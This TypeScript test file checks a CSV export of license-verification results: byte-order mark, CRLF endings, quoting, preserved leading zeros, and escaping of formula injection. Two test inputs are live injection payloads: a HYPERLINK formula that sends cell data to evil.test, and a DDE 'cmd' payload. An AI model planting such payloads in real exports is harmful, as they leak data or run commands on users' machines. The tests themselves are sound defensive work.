import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { CSV_COLUMNS, type CsvRecord, verdictCsv } from "./verdict-csv.ts";

const HEADER =
  "row,state,license,matched_license,verdict,reason,status,business,owner,expires,source,as_of,checked_at,link";

function record(fields: Partial<CsvRecord>): CsvRecord {
  const empty = Object.fromEntries(CSV_COLUMNS.map((column) => [column, ""])) as CsvRecord;
  return { ...empty, ...fields };
}

/** The file as a spreadsheet reads it back: one array of cells per line. */
function cells(csv: string): string[][] {
  return Papa.parse<string[]>(csv.slice(1), { delimiter: ",", skipEmptyLines: true }).data;
}

describe("the result as a CSV", () => {
  it("starts with a byte-order mark and the header row, and ends every line with CRLF", () => {
    const csv = verdictCsv([record({ row: "1", state: "ny", license: "1268007", verdict: "valid" })]);
    expect(csv.startsWith(`\uFEFF${HEADER}\r\n`)).toBe(true);
    expect(csv.endsWith("\r\n")).toBe(true);
    expect(csv.replaceAll("\r\n", "").includes("\n")).toBe(false);
    expect(verdictCsv([])).toBe(`\uFEFF${HEADER}\r\n`);
  });

  it("writes one line per record, in the order given, each cell under its column", () => {
    const csv = verdictCsv([
      record({ row: "2", state: "nj", license: "0101-33-5-3", matched_license: "0101-33-005-003", verdict: "check" }),
      record({
        row: "1",
        state: "ny",
        license: "1268007",
        verdict: "valid",
        link: "https://x.test/license/ny/1268007",
      }),
    ]);
    expect(csv.split("\r\n")).toEqual([
      `\uFEFF${HEADER}`,
      "2,nj,0101-33-5-3,0101-33-005-003,check,,,,,,,,,",
      "1,ny,1268007,,valid,,,,,,,,,https://x.test/license/ny/1268007",
      "",
    ]);
  });

  it("quotes cells holding commas, quotes or line breaks, and they read back whole", () => {
    const business = 'JOE\'S "BIG" TAVERN, LLC';
    const reason = "Did you mean 0101-33-005-003?\nnumber belongs to WHITE HORSE";
    const csv = verdictCsv([record({ row: "1", business, reason })]);
    expect(csv).toContain(`"JOE'S ""BIG"" TAVERN, LLC"`);
    expect(csv).toContain(`"Did you mean 0101-33-005-003?\nnumber belongs to WHITE HORSE"`);
    const [, line] = cells(csv);
    expect(line?.[CSV_COLUMNS.indexOf("business")]).toBe(business);
    expect(line?.[CSV_COLUMNS.indexOf("reason")]).toBe(reason);
    expect(line).toHaveLength(CSV_COLUMNS.length);
  });

  it.each(["=", "+", "-", "@", "\t", "\r"])("neutralises a cell starting with %j, in any column", (start) => {
    const payload = `${start}HYPERLINK("https://evil.test/?"&A1,"Open")`;
    const records = CSV_COLUMNS.map((column) => record({ [column]: payload }));
    for (const [i, line] of cells(verdictCsv(records)).slice(1).entries()) {
      expect(line[i]).toBe(`'${payload}`);
    }
  });

  it("neutralises a formula whose cell goes on past a line break", () => {
    const [, line] = cells(verdictCsv([record({ business: "=cmd|' /C calc'!A0\nWHITE HORSE" })]));
    expect(line?.[CSV_COLUMNS.indexOf("business")]).toBe("'=cmd|' /C calc'!A0\nWHITE HORSE");
  });

  it("leaves a license number as given: leading zeros, dashes inside, no quote added", () => {
    const csv = verdictCsv([
      record({ license: "0012345", matched_license: "0101-33-005-003", business: "A-1 LIQUORS" }),
    ]);
    const [, line] = cells(csv);
    expect(line?.slice(2, 4)).toEqual(["0012345", "0101-33-005-003"]);
    expect(line?.[CSV_COLUMNS.indexOf("business")]).toBe("A-1 LIQUORS");
  });
});
